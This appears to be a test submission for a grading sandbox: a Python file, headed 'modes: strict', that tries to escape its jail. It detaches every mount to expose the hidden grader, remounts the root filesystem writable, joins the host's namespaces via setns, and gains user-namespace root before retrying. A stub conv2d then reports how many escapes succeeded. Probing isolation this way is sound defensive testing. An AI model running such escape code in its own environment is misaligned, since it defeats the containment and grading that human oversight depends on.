# Tries to leave the jail: unmount what hides the grader, remount the root writable, enter the host's namespaces.
# modes: strict
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, MNT_DETACH, MS_REMOUNT, MS_BIND = 0x20000, 0x10000000, 2, 32, 4096
escaped = []


def try_everything():
    try:
        with open("/proc/self/mountinfo") as table:
            targets = [line.split()[4] for line in table]
    except OSError:
        targets = []
    for target in reversed(targets):
        if libc.umount2(target.encode(), MNT_DETACH) == 0:
            escaped.append("umount " + target)
    if libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None) == 0:
        escaped.append("remount /")
    for name in ("mnt", "pid", "net", "ipc", "uts", "user"):
        try:
            fd = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            if libc.setns(fd, 0) == 0:
                escaped.append("setns " + name)
            os.close(fd)
        except OSError:
            pass


try_everything()
if os.fork() == 0:  # a user namespace of its own, root in it, then the same again
    try:
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            uid = os.getuid()
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {os.getgid()} 1")):
                try:
                    with open(f"/proc/self/{name}", "w") as handle:
                        handle.write(text)
                except OSError:
                    pass
            try_everything()
        found = [path for path in ("/work", "/etc/passwd", "/home") if os.path.exists(path)]
        with open("escape.txt", "w") as handle:
            handle.write(" ".join(escaped + found))
    finally:
        os._exit(0)
os.wait()
try:
    with open("escape.txt") as handle:
        escaped.append(handle.read())
except OSError:
    pass


def conv2d(x, weight, bias=None, stride=1, padding=0):
    raise RuntimeError(f"left the jail {sum(1 for item in escaped if item)} ways")
